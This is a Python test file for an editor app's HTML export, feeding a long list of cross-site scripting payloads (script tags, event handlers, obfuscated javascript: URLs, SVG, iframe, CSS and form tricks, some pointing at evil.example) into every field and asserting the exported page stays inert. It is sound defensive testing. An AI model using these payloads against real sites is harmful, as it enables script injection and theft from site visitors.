"""Hostile input in every field a writer controls -> an exported page with no script, no event
handler, no javascript:/vbscript: URL and nothing that loads by itself.

Decision (documented in docs): images given by http(s) URL are not <img> in the exported file but
a link "[Image: alt]" to the URL the writer chose, so opening the page makes no request; images
embedded as data:image/(png|jpeg|gif|webp) stay inline. The page's CSP would block such loads
anyway; the checks below also run on a copy without the CSP, so the markup itself is safe.
"""

from __future__ import annotations

import re
import subprocess
from pathlib import Path

import pytest

from editor_app.core.article import Article
from editor_app.core.claims import Appearance, Claim, Response, Stance
from editor_app.core.export import ArticlePackage, export_page
from editor_app.core.render import render_markdown
from editor_app.core.settings import DeskSettings
from editor_app.services.opening import open_store
from tests.e2e.export_support import AXE_SCRIPT, need_browser, parse_page, run_cli

XSS = '"><img src=x onerror=alert(1)>'

PAYLOADS: list[str] = [
    # script elements, in many spellings
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=https://evil.example/x.js></script>",
    '<script type="module">import("https://evil.example/m.js")</script>',
    "<<script>alert(1);//<</script>",
    # event handlers on many tags
    "<img src=x onerror=alert(1)>",
    '<img src="data:image/png;base64,AAAA" onload="alert(1)">',
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    '<a href="https://ok.example" onclick="alert(1)">click</a>',
    "<p onclick=alert(1)>para</p>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>m</marquee>",
    '<table background="javascript:alert(1)"><tr><td onmouseover=alert(1)>x</td></tr></table>',
    '<span style="x" onpointerenter=alert(1)>s</span>',
    # javascript:/vbscript:/data: URLs in links and images, plain and obfuscated
    "[link](javascript:alert(1))",
    "[link](JaVaScRiPt:alert(1))",
    "[link](vbscript:msgbox(1))",
    "[link](javascript&#58;alert(1))",
    "[link](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[link](&#x6A;avascript:alert(1))",
    "[link]( javascript:alert(1))",
    "[link](java\tscript:alert(1))",
    "[link](<java\nscript:alert(1)>)",
    "[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[ref link][r]\n\n[r]: javascript:alert(1)",
    '<a href="javascript:alert(1)">raw</a>',
    '<a href="  javascript:alert(1)">raw spaced</a>',
    '<a href="jav&#x09;ascript:alert(1)">raw tab</a>',
    '<a href="&#14;javascript:alert(1)">raw ctl</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html,<script>alert(1)</script>">data</a>',
    "![img](javascript:alert(1))",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![img](data:text/html,<script>alert(1)</script>)",
    '<img src="javascript:alert(1)">',
    '<img src="jav&#x0A;ascript:alert(1)">',
    '<img srcset="https://evil.example/a.png 1x">',
    '<img src="https://evil.example/track.gif" alt="tracker">',
    "![remote](https://evil.example/remote.png)",
    '![titled](https://evil.example/t.png "a \\" onerror=alert(1) x=\\"")',
    '[titled link](https://ok.example "title \\" onmouseover=alert(1) x=\\"")',
    "[quote title](https://ok.example 'it''s \" onclick=alert(1)')",
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><image href="https://evil.example/i.png"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # frames, objects, embeds
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    "<portal src=https://evil.example></portal>",
    # style injection
    "<style>body{background:url(https://evil.example/bg.png)}</style>",
    "<style>@import url(https://evil.example/x.css);</style>",
    '<div style="background:url(https://evil.example/x.png)">styled</div>',
    '<div style="width: expression(alert(1))">ie</div>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<p style="behavior: url(x.htc)">htc</p>',
    # meta refresh, base, forms
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/steal"><input name=q><button formaction="javascript:alert(1)">go</button></form>',
    '<isindex action="javascript:alert(1)">',
    # broken, unclosed and comment tricks
    "<img src=x onerror=alert(1)//",
    "<a href='https://ok.example' <script>alert(1)</script>",
    "<div><p>unclosed <b>bold <i>italic",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "`<script>alert(1)</script>` in code and\n\n```html\n<script>alert(1)</script>\n```",
    "<!--claim c1-->claimed<!--/claim--> <!--claims-->",
    "\u2028<script>\u2029alert(1)</script>",
    XSS,
]

HOSTILE_META = {
    "title": f"Headline {XSS}</title><script>alert(1)</script>",
    "dek": f'Dek {XSS} " onmouseover="alert(1)',
    "byline": f"By <script>alert(1)</script> {XSS}",
}

_BAD_SCHEME = re.compile(r"^(javascript|vbscript|data|livescript|mocha):", re.I)
_URL_ATTRS = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "background",
    "poster",
    "srcset",
    "codebase",
    "cite",
    "longdesc",
    "usemap",
    "manifest",
    "ping",
    "lowsrc",
    "dynsrc",
}
_FORBIDDEN_TAGS = {
    "script",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "svg",
    "math",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "base",
    "portal",
    "video",
    "audio",
    "source",
    "track",
    "isindex",
    "template",
    "noscript",
    "xmp",
    "marquee",
    "details",
}


def _scheme_of(value: str) -> str:
    """The URL as a browser's URL parser sees it (WHATWG): leading and trailing C0 controls and
    spaces stripped, tabs and newlines removed everywhere."""
    return re.sub(r"[\t\n\r]", "", value.strip("".join(map(chr, range(0x21)))))


def assert_safe(html: str) -> None:
    page = parse_page(html)
    scripts = [(a, t) for a, t in page.scripts]
    assert len(scripts) == 1 and scripts[0][0] == {"type": "application/ld+json"}, scripts
    assert html.lower().count("<script") == 1 and html.lower().count("</script") == 1
    assert len(re.findall(r"<style\b", html, re.I)) == 1
    style = html[html.index("<style>") : html.index("</style>")]
    assert "url(" not in style and "@import" not in style and "expression(" not in style
    for tag, attrs in page.tags:
        if tag == "script" and attrs == {"type": "application/ld+json"}:
            continue  # the metadata block, checked above (data, never run)
        assert tag not in _FORBIDDEN_TAGS, (tag, attrs)
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, value)
            assert name not in ("srcdoc", "formaction", "srcset", "background", "xlink:href"), (tag, name)
            if name in _URL_ATTRS:
                scheme = _scheme_of(value)
                if tag == "img" and name == "src":
                    assert re.match(r"^data:image/(png|jpeg|gif|webp);base64,", value), value
                else:
                    assert not _BAD_SCHEME.match(scheme), (tag, name, value)
            if name == "style":
                assert re.fullmatch(r"text-align:\s*(left|right|center);?", value.strip()), value
        if tag == "meta":
            assert "http-equiv" not in attrs or attrs["http-equiv"] == "Content-Security-Policy", attrs
        if tag == "link":
            assert attrs.get("rel") == "canonical", attrs
        if tag == "a" and "href" in attrs:
            scheme = re.match(r"^([A-Za-z][A-Za-z0-9+.-]*):", _scheme_of(attrs["href"]))
            assert scheme is None or scheme.group(1).lower() in ("http", "https", "mailto"), attrs


def _page(body: str, **meta: str) -> str:
    article = Article(id=1, slug="hostile", body=body, **meta)
    article.tags = ["ok", "<script>alert(1)</script>", XSS]
    claim = Claim(
        key="c1",
        wording=f"Claim {XSS}",
        short=f"{XSS}",
        appearances=[Appearance(outlet=f"Outlet {XSS}", title=f"T {XSS}", url="javascript:alert(1)", attribution=XSS)],
        responses=[
            Response(
                party=f"Party {XSS}",
                stance=Stance.DENIES,
                quote=f"Quote {XSS}",
                spokesperson=XSS,
                reported_by=XSS,
                source_url=" javascript:alert(1)",
            ),
            Response(
                party="Other", stance=Stance.DENIES, quote='"><svg onload=alert(1)>', source_url="vbscript:msgbox(1)"
            ),
        ],
    )
    package = ArticlePackage(article, claims=[claim])
    settings = DeskSettings(
        publisher=f"Pub {XSS}", site_base_url="javascript:alert(1)//", twitter_site=XSS, language=f"en{XSS}"
    )
    return export_page(package, render_markdown(body), settings=settings)


@pytest.mark.parametrize("payload", PAYLOADS, ids=[f"p{i:02d}" for i in range(len(PAYLOADS))])
def test_each_payload_yields_a_safe_page(payload: str):
    html = _page(f"Before.\n\n{payload}\n\nAfter.", **HOSTILE_META)
    assert_safe(html)
    assert "Before." in html and html.count("<h1") == 1  # the page itself is intact
    if not re.search(r"<(style|textarea|xmp|noscript|math|template|script|!--)", payload, re.I):
        assert "After." in html  # only raw-text tricks may swallow the rest (as text or dropped)


def test_hostile_metadata_is_text_everywhere():
    html = _page("Body.", **HOSTILE_META)
    assert_safe(html)
    assert '<html lang="en">' in html  # an invalid language falls back
    assert "<title>Headline &#34;&gt;&lt;img" in html or "<title>Headline &quot;&gt;&lt;img" in html
    assert "twitter:site" not in html  # not a valid handle: left out
    assert 'rel="canonical"' not in html  # the base URL is not http(s): no canonical


def test_combined_hostile_article_exported_by_the_cli_is_safe_and_loads_nothing(tmp_path: Path):
    from editor_app.core.importer import parse_markdown
    from editor_app.store.importing import import_parsed

    text = "\n\n".join(PAYLOADS)
    db = tmp_path / "hostile.sqlite"
    store = open_store(db, seed_sample=False)
    try:
        parsed = parse_markdown(text)
        parsed.title, parsed.dek, parsed.byline = HOSTILE_META["title"], HOSTILE_META["dek"], HOSTILE_META["byline"]
        parsed.tags = ["<b>x</b>", XSS]
        parsed.claims = [
            {
                "text": f"Claim {XSS}",
                "reported_by": {"outlet": f"FT {XSS}", "url": "javascript:alert(1)"},
                "responses": [{"party": f"Ford {XSS}", "stance": "denies", "quote": f"No {XSS}", "url": "vbscript:x"}],
            }
        ]
        article_id = import_parsed(store, parsed).article.id
    finally:
        store.close()
    out = tmp_path / "out"
    proc = run_cli("export", str(article_id), "--out", str(out), "--json", db=db, check=True)
    page = Path(__import__("json").loads(proc.stdout)["files"][0]["path"])
    html = page.read_text(encoding="utf-8")
    assert_safe(html)

    need_browser()
    # The markup itself must be harmless: load a copy without the CSP (the second line of defence).
    bare = tmp_path / "no-csp.html"
    bare.write_text(re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", html), encoding="utf-8")
    for file in (page, bare):
        run = subprocess.run(
            ["node", str(AXE_SCRIPT), str(file), "--no-axe"], capture_output=True, text=True, timeout=180
        )
        assert run.returncode == 0, run.stderr
        report = __import__("json").loads(run.stdout)
        assert report["external_requests"] == [], report["external_requests"]
        assert report["dialogs"] == []  # no script ran
        assert report["final_url"].endswith(file.name)  # no refresh, no navigation
